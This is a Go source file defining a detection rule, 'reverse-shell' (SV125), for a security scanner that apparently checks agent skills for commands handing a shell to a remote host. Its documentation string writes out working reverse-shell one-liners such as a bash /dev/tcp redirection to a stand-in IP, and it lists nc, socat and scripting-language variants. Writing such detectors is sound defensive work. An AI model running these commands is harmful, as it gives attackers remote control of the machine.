package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/intel"
)

// ShellReverseShell reports commands that hand a shell to a remote host.
var ShellReverseShell = register(&analyzer.Rule{
	ID:       "SV125",
	Name:     "reverse-shell",
	Title:    "Reverse shell or remote command channel",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-506", "CWE-78"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds the classic ways to give a remote host an interactive shell on this machine:

- ` + "`/dev/tcp/host/port`" + ` or ` + "`/dev/udp/…`" + ` redirections (` + "`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`" + `);
- ` + "`nc -e /bin/sh`" + `, ` + "`ncat -e`" + `, ` + "`nc -c`" + `, a shell piped into ` + "`nc`" + ` or ` + "`nc`" + ` piped into a shell,
  ` + "`telnet … | sh`" + `, ` + "`mkfifo`" + ` relays through ` + "`nc`" + `;
- ` + "`socat exec:…`" + ` / ` + "`system:`" + ` with a TCP address;
- ` + "`python -c`" + `, ` + "`perl -e`" + `, ` + "`ruby -e`" + `, ` + "`php -r`" + ` one-liners that open a socket and spawn a shell
  (` + "`socket`" + ` with ` + "`pty.spawn`" + `, ` + "`dup2`" + `, ` + "`subprocess`" + `, ` + "`/bin/sh`" + `).

There is no legitimate reason for a skill to do this. **Critical.**

A command that only writes a fixed text to ` + "`/dev/tcp`" + ` — ` + "`echo`" + `, ` + "`printf`" + `, ` + "`true`" + `, ` + "`:`" + ` with constant
arguments, whatever their other redirections (` + "`(echo >/dev/tcp/db/$port) 2>/dev/null && echo open`" + `) — is a
port check: nothing reads commands from the socket. It is reported as a connection probe,
**low**, or **medium** when the host is a raw IP, tunnel or the like. A computed text
(` + "`echo \"$(cat key)\" > /dev/tcp/…`" + `) is not a probe.

**Fix:** remove it. Use the agent's own tools for remote work.

Bad:

` + "```sh" + `
bash -i >& /dev/tcp/203.0.113.4/4444 0>&1
` + "```" + `

Good:

` + "```sh" + `
ssh deploy@build.example.com ./deploy.sh   # an explicit, authenticated session
` + "```",
	Run: shRunReverseShell,
})

func shRunReverseShell(p *analyzer.Pass) error {
	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
		s := site.Script
		fifo := false
		for _, c := range s.Commands {
			if c.Name == "mkfifo" || c.Name == "mknod" && shellfacts.HasArg(c, "p") {
				fifo = true
			}
		}
		reported := map[int]bool{}
		for _, c := range s.Commands {
			why := shellfacts.ReverseShell(s, c, fifo)
			if reported[c.Start] {
				continue
			}
			if why == "" {
				// (echo >/dev/tcp/host/$port) 2>/dev/null && echo open: a
				// port check; echo reads nothing, so no command comes
				// from the socket
				if addr := shellfacts.TCPProbe(c); addr != "" {
					reported[c.Start] = true
					sev := Low
					if host := strings.Split(addr, "/"); len(host) > 3 && intel.ClassifyHost(host[3]).Suspicious() {
						sev = Medium
					}
					shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Severity: sev,
						Message: "connection probe: " + c.Name + " writes a fixed text to " + addr + " and nothing reads commands from the socket (a port check, not a shell)" + shellfacts.Where(site)})
				}
				continue
			}
			reported[c.Start] = true
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Message: "reverse shell: " + why + shellfacts.Where(site)})
		}
	})
}
